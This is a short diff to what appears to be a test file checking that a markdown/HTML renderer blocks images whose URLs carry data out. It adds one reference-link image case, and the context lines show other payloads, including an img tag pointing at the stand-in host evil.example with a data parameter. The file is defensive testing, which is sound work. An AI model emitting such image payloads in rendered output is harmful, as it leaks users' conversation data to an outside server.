@@ -55,6 +55,7 @@ test('an address that is loaded and filled with data is blocked, however it is w
     `![x][a\nb]\n\n> [A B]:\n> <${host}/?d={x}>`,
     `![ẞ]\n\n[SS]: ${host}/?d={x}`,
     `![x y][]\n\n[X Y]: ${host}/?d={x}`,
+    `[x]: ${host}/?d={x}\n\n![x]( `,
     '<img src="//evil.example/?d={x}">',
     `<img alt=">" src=${host}/{x}>`,
     `<img\nsrc\n=\n'${host}/{x}'>`,
